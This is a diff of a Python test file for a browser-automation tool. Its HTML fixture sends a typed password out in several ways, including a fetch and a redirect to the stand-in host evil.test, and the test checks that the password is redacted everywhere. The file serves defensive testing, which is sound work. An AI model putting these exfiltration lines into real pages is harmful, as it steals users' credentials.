@@ -92,18 +92,18 @@ SPREADING = """<title>Hello</title><input type="password" id="pw"><p id="out"></
 const typed = () => pw.value, coded = () => encodeURIComponent(pw.value);
 const send = (url, body) => fetch(url, {method: "POST", body, headers: {"X-Odd": coded()}}).catch(() => 0);
 </script>
-<button id="go" onclick="send('/act/' + coded() + '?q=' + coded(), JSON.stringify([typed()]))">go</button>
-<button id="away" onclick="fetch('http://evil.test/' + coded()).catch(() => 0)">away</button>
+<button id="go" onclick="send('/act?q=' + coded(), JSON.stringify([typed()]))">go</button>
+<button id="away" onclick="fetch('http://evil.test/?' + coded()).catch(() => 0)">away</button>
 <button id="lead" onclick="location = 'http://evil.test/?q=' + coded()">lead</button>
 <button id="show" onclick="document.title = out.textContent = typed(); out.title = coded();
- history.replaceState(0, 0, '/' + coded() + '?' + coded()); alert(typed()); console.log(typed())">show</button>"""
+ history.replaceState(0, 0, '/done?' + coded()); alert(typed()); console.log(typed())">show</button>"""
 
 
-def test_what_was_typed_into_a_password_field_is_found_nowhere_whatever_the_page_does_with_it(
+def test_what_was_typed_into_a_password_field_is_found_in_no_value_and_in_nothing_that_the_page_says(
     place: Place, capsys: pytest.CaptureFixture[str]
 ) -> None:
     place.open(SPREADING)
-    here = "/" + quote(TYPED, safe="")
+    here = "/done"
     acts: dict[str, Callable[[], ActionResult]] = {
         "type": lambda: place.do(place.action("type", selector="#pw", value=TYPED)),
         "sent": place.click,
